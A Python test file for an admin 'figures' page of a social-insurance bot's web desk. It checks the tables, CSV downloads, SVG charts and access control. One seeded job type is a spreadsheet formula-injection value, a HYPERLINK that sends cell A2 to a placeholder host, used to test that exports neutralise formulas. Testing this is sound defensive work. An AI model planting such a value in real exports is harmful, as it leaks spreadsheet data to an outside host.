"""The figures page of the web desk, for real: `jaring serve` on 127.0.0.1, an admin signed in through the
chat's link, seeded registrations in two kelurahan and two job types, a paid claim, an accident report and
an unanswered question. Every table shows what `gather_figures` (the chat's figures) gives; each downloads
as a CSV Excel opens, with a formula-looking cell made harmless; the charts are well-formed SVG; only
admins get in; an admin uses it all in Chromium."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from bot.desks.figures import gather_figures, registrations_by_month
from bot.settings import Settings
from bot.web.rendering import number
from conversations.requests.figures import Figures, MonthOfRegistrations
from db.models import AuditEntry, Registration
from db.repositories import accident_reports, claim_cases, contacts, quotas, unanswered_questions
from locales import format_rupiah
from tests.conftest import FixedClock
from tests.review_support import MEDONO, NOYONTAANSARI, seed_registration
from tests.telegram_support import fake_server
from tests.web_support import DeskServer, browser_page, desk_server, screenshot

ADMIN = 601
VERIFIER = 602
FORMULA_JOB = '=HYPERLINK("http://contoh.test/?"&A2;"klik")'  # an old row's job type that Excel would run
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
async def desk(settings: Settings, clock: FixedClock) -> AsyncIterator[DeskServer]:
    async with fake_server() as fake, desk_server(settings, fake, clock) as server:
        yield server


async def _seed(desk: DeskServer) -> None:
    """Six registrations over three months in Medono and Noyontaansari, as tukang becak or buruh batik (one
    active in the quota of 8 places, one rejected, one with a formula for a job type); a paid claim; an
    accident report; an unanswered question."""
    jaring = desk.jaring
    now = desk.clock()
    seeded = (
        (1, MEDONO, "buruh_batik", "verified", datetime(2026, 9, 3, 2, 0, tzinfo=UTC)),
        (2, MEDONO, "tukang_becak", "active", datetime(2026, 9, 30, 18, 0, tzinfo=UTC)),  # 1 October in WIB
        (3, NOYONTAANSARI, "tukang_becak", "submitted", datetime(2026, 10, 12, 2, 0, tzinfo=UTC)),
        (4, NOYONTAANSARI, "tukang_becak", "submitted", datetime(2026, 11, 20, 2, 0, tzinfo=UTC)),
        (5, NOYONTAANSARI, "buruh_batik", "rejected", datetime(2026, 11, 20, 2, 0, tzinfo=UTC)),
        (6, MEDONO, FORMULA_JOB, "submitted", datetime(2026, 11, 20, 2, 0, tzinfo=UTC)),
    )
    async with jaring.store.transaction() as session:
        for serial, kelurahan, job, status, at in seeded:
            row = await seed_registration(
                session,
                jaring.cipher,
                jaring.programme,
                serial=serial,
                kelurahan=kelurahan,
                status=status,
                created_at=at,
            )
            row.job_type = job
            if status == "active":
                row.coverage_start = date(2026, 10, 1)
                row.quota_year = 2026
        await quotas.record_quota_change(
            session, jaring.programme.id, 2026, 8, actor="test", actor_contact_id=None, reason="APBD", now=now
        )
        heir = await contacts.get_or_create_contact(session, "terminal", "ahli-waris", now)
        await claim_cases.add_case(
            session,
            {"programme_id": jaring.programme.id, "contact_id": heir.id, "data": {}, "status": "paid"}
            | {"amount_paid": 42_000_000},
            now,
        )
        await accident_reports.add_report(
            session,
            {
                "programme_id": jaring.programme.id,
                "what": "jatuh dari becak",
                "place": "Jl. Hayam Wuruk",
                "occurred_on": date(2026, 11, 19),
                "treated_at": "puskesmas",
                "reporter_phone": "6281200000000",
                "relation": "self",
                "created_at": now - timedelta(days=2),
            },
        )
        await unanswered_questions.add_question(
            session, None, "kapan kartu jadi", language="id", asked_in="menu", now=now - timedelta(days=3)
        )


async def _truth(desk: DeskServer, year: int = 2026) -> tuple[Figures, tuple[MonthOfRegistrations, ...]]:
    """What the chat's figures say, asked of the desk functions directly."""
    jaring = desk.jaring
    now = desk.clock()
    async with jaring.store.transaction() as session:
        figures = await gather_figures(session, jaring.programme, year=year, now=now)
        months = await registrations_by_month(session, jaring.programme, today=jaring.programme.local_date(now))
    return figures, months


# ---- reading the page ----------------------------------------------------------------------------------------


class _Tables(HTMLParser):
    """Each table's caption and its rows of cell texts (header row included)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._caption: list[str] | None = None
        self._rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._rows = []
        elif tag == "caption":
            self._caption = []
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "caption" and self._caption is not None:
            self.caption = "".join(self._caption).strip()
            self._caption = None
        elif tag in ("td", "th") and self._cell is not None:
            self._rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table":
            self.tables[self.caption] = self._rows

    def handle_data(self, data: str) -> None:
        if self._caption is not None:
            self._caption.append(data)
        if self._cell is not None:
            self._cell.append(data)


def tables_of(html: str) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _rp(amount: int) -> str:
    return format_rupiah(amount, "id")


# ---- the tests ----------------------------------------------------------------------------------------------


async def test_every_table_shows_what_the_chats_figures_give(desk: DeskServer) -> None:
    await desk.officer(ADMIN)
    await _seed(desk)
    figures, months = await _truth(desk)
    region = desk.jaring.region
    names = {k.code: k.name for k in region.all_kelurahan}
    async with desk.client(ADMIN) as client:
        page = await client.get("/angka")
    assert page.status_code == 200
    tables = tables_of(page.text)

    # Coverage by kelurahan: names from the region, the rejected one left out, as gather_figures counts.
    assert [(c.key, c.count) for c in figures.counts.by_kelurahan] == [(MEDONO, 3), (NOYONTAANSARI, 2)]
    assert tables["Pendaftaran per kelurahan/desa"] == [
        ["Kelurahan/desa", "Kecamatan", "Pendaftaran"],
        [names[MEDONO], "Pekalongan Barat", "3"],
        [names[NOYONTAANSARI], "Pekalongan Timur", "2"],
    ]
    # By job type: labels from the programme; a job type it does not know is shown as stored.
    jobs = {job.id: job.name for job in desk.jaring.programme.job_types}
    assert tables["Pendaftaran per jenis pekerjaan"][1:] == [
        [jobs.get(c.key, c.key), number(c.count)] for c in figures.counts.by_job_type
    ]
    assert [row[0] for row in tables["Pendaftaran per jenis pekerjaan"][1:]] == [
        jobs["tukang_becak"],  # 3
        FORMULA_JOB,  # 1 each: in the order of what is stored
        jobs["buruh_batik"],  # (the rejected one is not counted)
    ]
    # Over time: September to this month (November), month by month and added up.
    assert [(m.month, m.registered, m.registered_total, m.active_total) for m in months] == [
        (date(2026, 9, 1), 1, 1, 0),
        (date(2026, 10, 1), 2, 3, 1),
        (date(2026, 11, 1), 3, 6, 1),
    ]
    assert tables["Pendaftaran per bulan"][1:] == [
        ["September 2026", "1", "1", "0"],
        ["Oktober 2026", "2", "3", "1"],
        ["November 2026", "3", "6", "1"],
    ]
    assert tables["Pendaftaran menurut status"][-1] == [
        "Jumlah semua",
        str(sum(c.count for c in figures.counts.by_status)),
    ]
    assert (figures.quota_places, figures.quota_used, figures.count_of("waiting_list")) == (8, 1, 0)
    assert tables["Pemakaian kuota 2026"][1:] == [
        ["Kuota tahun 2026 (tempat)", "8"],
        ["Tempat terpakai", "1"],
        ["Sisa tempat", "7"],
        ["Kuota terpakai", "12,5%"],
        ["Daftar tunggu (orang)", "0"],
    ]
    monthly = desk.jaring.programme.premium.monthly
    assert (figures.active, figures.premiums_year) == (1, 3 * monthly)  # October to December
    assert tables["Iuran yang ditanggung 2026"][1:] == [
        ["Peserta aktif", "1"],
        ["Iuran per orang per bulan", _rp(monthly)],
        ["Iuran per bulan sekarang", _rp(monthly)],
        ["Iuran tahun 2026 untuk peserta aktif", _rp(3 * monthly)],
    ]
    assert (figures.claims_paid, figures.claims_paid_total, figures.accident_reports) == (1, 42_000_000, 1)
    assert tables["Klaim ahli waris"][1:] == [
        ["Klaim yang sudah dibayar", "1"],
        ["Jumlah santunan yang dibayar", "Rp42.000.000"],
        ["Klaim yang masih diurus", "0"],
    ]
    assert tables["Laporan kecelakaan kerja 2026"][1:] == [["Laporan kecelakaan kerja tahun 2026", "1"]]
    assert figures.unanswered_count == 1
    assert tables["Pertanyaan yang belum bisa dijawab bot"][1:] == [["Belum terjawab (30 hari terakhir)", "1"]]
    assert "kapan kartu jadi" not in page.text  # only counts here: what people typed stays in the chat's menu
    assert len(tables["Pertanyaan yang langsung dijawab bot, per minggu"]) == 1 + len(figures.question_weeks)

    async with desk.jaring.store.transaction() as session:
        audited = (await session.execute(select(AuditEntry).where(AuditEntry.action == "figures.viewed"))).scalars()
        assert [(a.detail["what"], a.detail.get("year")) for a in audited] == [
            ("figures_over_time", "2026"),
            ("sponsors", None),  # the programme has (CSR) sponsors: the page's "Donatur" section
        ]


async def test_another_year_is_chosen_and_a_year_that_cannot_be_read_is_said(desk: DeskServer) -> None:
    await desk.officer(ADMIN)
    await _seed(desk)
    last_year, _ = await _truth(desk, 2025)
    async with desk.client(ADMIN) as client:
        earlier = tables_of((await client.get("/angka", params={"tahun": "2025"})).text)
        wrong = await client.get("/angka", params={"tahun": "20x6"})
    assert (last_year.accident_reports, last_year.premiums_year) == (0, 0)
    assert earlier["Laporan kecelakaan kerja 2025"][1:] == [["Laporan kecelakaan kerja tahun 2025", "0"]]
    assert earlier["Pemakaian kuota 2025"][1] == ["Kuota tahun 2025 (tempat)", "Belum ditetapkan"]
    assert earlier["Iuran yang ditanggung 2025"][-1] == ["Iuran tahun 2025 untuk peserta aktif", "Rp0"]
    assert wrong.status_code == 200
    said = re.sub(r"\s+", " ", wrong.text.replace("&#34;", '"'))
    assert "Tahun “20x6” tidak bisa dibaca. Pilih tahun dari daftar, misalnya 2026." in said
    assert '<option value="2026" selected>' in wrong.text
    assert "Laporan kecelakaan kerja 2026" in tables_of(wrong.text)


async def test_each_table_downloads_as_the_same_rows_with_formulas_made_harmless(desk: DeskServer) -> None:
    await desk.officer(ADMIN)
    await _seed(desk)
    figures, _ = await _truth(desk)
    async with desk.client(ADMIN) as client:
        page = tables_of((await client.get("/angka")).text)
        slugs = re.findall(r'href="/dinas/angka/(\w+)\.csv\?tahun=2026"', (await client.get("/angka")).text)
        assert slugs == [
            "kelurahan",
            "pekerjaan",
            "bulan",
            "status",
            "kuota",
            "iuran",
            "klaim",
            "kecelakaan",
            "pertanyaan",
            "jawaban",
        ]
        jobs = await client.get("/angka/pekerjaan.csv")
        places = await client.get("/angka/kelurahan.csv")
        money = await client.get("/angka/iuran.csv", params={"tahun": "2026"})
        every = [await client.get(f"/angka/{slug}.csv") for slug in slugs]
        unknown = await client.get("/angka/rahasia.csv")
    assert jobs.headers["content-type"] == "text/csv; charset=utf-8"
    assert jobs.headers["content-disposition"] == 'attachment; filename="angka-pekerjaan-2026.csv"'
    assert jobs.headers["cache-control"] == "no-store"
    rows = _csv_rows(jobs.content)
    assert rows[0] == ["Jenis pekerjaan", "Pendaftaran"]
    assert [int(count) for _, count in rows[1:]] == [c.count for c in figures.counts.by_job_type]
    # The formula is text behind a ': a spreadsheet shows it and never runs it.
    assert ["'" + FORMULA_JOB, "1"] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # Same rows as the page's table (numbers plain, for Excel to add up).
    assert _csv_rows(places.content) == [
        [cell.replace(".", "") if cell.replace(".", "").isdecimal() else cell for cell in row]
        for row in page["Pendaftaran per kelurahan/desa"]
    ]
    assert _csv_rows(money.content)[-1] == ["Iuran tahun 2026 untuk peserta aktif", str(figures.premiums_year)]
    assert [answer.status_code for answer in every] == [200] * len(slugs)
    assert unknown.status_code == 404


async def test_the_charts_are_well_formed_svg_with_a_title_and_a_labelled_value_per_bar(desk: DeskServer) -> None:
    await desk.officer(ADMIN)
    await _seed(desk)
    async with desk.client(ADMIN) as client:
        html = (await client.get("/angka")).text
    tables = tables_of(html)
    charts = [ET.fromstring(svg) for svg in re.findall(r"<svg .*?</svg>", html, flags=re.DOTALL)]
    titles = [chart.findtext(f"{SVG}title") for chart in charts]
    assert titles == [
        "Pendaftaran per kelurahan/desa",
        "Pendaftaran per jenis pekerjaan",
        "Pendaftaran yang masuk setiap bulan",
        "Pemakaian kuota 2026",
    ]
    assert all(chart.get("role") == "img" and chart.get("aria-labelledby") for chart in charts)
    by_title = dict(zip(titles, charts, strict=True))

    def bars(title: str) -> list[list[str | None]]:
        return [[text.text for text in bar.iter(f"{SVG}text")] for bar in by_title[title].iter(f"{SVG}g")]

    assert bars("Pendaftaran per kelurahan/desa") == [
        [row[0], row[2]] for row in tables["Pendaftaran per kelurahan/desa"][1:]
    ]
    assert bars("Pendaftaran yang masuk setiap bulan") == [
        ["September 2026", "1"],
        ["Oktober 2026", "2"],
        ["November 2026", "3"],
    ]
    assert [label for label, _ in bars("Pemakaian kuota 2026")] == [
        "Kuota tahun 2026 (tempat)",
        "Tempat terpakai",
        "Daftar tunggu (orang)",
    ]
    assert "&lt;svg" not in html  # drawn as markup, not shown as text


async def test_a_verifier_is_refused_the_figures_and_their_downloads(desk: DeskServer) -> None:
    await desk.officer(VERIFIER, "verifier", MEDONO)
    await _seed(desk)
    async with desk.client(VERIFIER) as client:
        page = await client.get("/angka")
        download = await client.get("/angka/kelurahan.csv")
        unknown = await client.get("/angka/rahasia.csv")
    assert [page.status_code, download.status_code, unknown.status_code] == [403, 403, 403]
    assert "Pendaftaran per kelurahan" not in page.text
    assert "Pendaftaran" not in download.text
    async with desk.jaring.store.transaction() as session:
        viewed = (await session.execute(select(AuditEntry).where(AuditEntry.action == "figures.viewed"))).first()
        assert viewed is None
        assert (await session.execute(select(Registration.id))).all()  # there was something to see


async def test_an_admin_reads_the_charts_and_downloads_a_table_in_a_real_browser(desk: DeskServer) -> None:
    await desk.officer(ADMIN)
    await _seed(desk)
    link = await desk.link_from_chat(ADMIN)
    async with browser_page() as page:
        await page.goto(link)
        await page.get_by_role("button", name="Masuk").click()
        await page.wait_for_url(f"{desk.url}/")
        await page.get_by_role("navigation").get_by_role("link", name="Angka").click()
        await page.wait_for_url(f"{desk.url}/angka")
        assert await page.get_by_role("heading", level=1).inner_text() == "Angka program"
        charts = page.get_by_role("img")
        assert await charts.count() == 4
        for index in range(4):
            box = await charts.nth(index).bounding_box()
            assert box is not None
            assert box["width"] > 300  # drawn and visible, not a collapsed box
            assert box["height"] > 40
        await page.get_by_label("Tahun anggaran").select_option("2027")  # next year's budget, being planned
        await page.get_by_role("button", name="Tampilkan").click()
        await page.wait_for_url(f"{desk.url}/angka?tahun=2027")
        assert await page.get_by_role("table", name="Laporan kecelakaan kerja 2027").is_visible()
        assert await charts.count() == 3  # no quota set for 2027: nothing to draw for it
        await page.get_by_label("Tahun anggaran").select_option("2026")
        await page.get_by_role("button", name="Tampilkan").click()
        await page.wait_for_url(f"{desk.url}/angka?tahun=2026")
        await screenshot(page, "figures")
        async with page.expect_download() as waiting:
            await page.get_by_role("link", name="Unduh CSV: Pendaftaran per kelurahan/desa").click()
        download = await waiting.value
        assert download.suggested_filename == "angka-kelurahan-2026.csv"
        saved = await download.path()
        rows = _csv_rows(saved.read_bytes())
    names = {k.code: k.name for k in desk.jaring.region.all_kelurahan}
    assert rows == [
        ["Kelurahan/desa", "Kecamatan", "Pendaftaran"],
        [names[MEDONO], "Pekalongan Barat", "3"],
        [names[NOYONTAANSARI], "Pekalongan Timur", "2"],
    ]
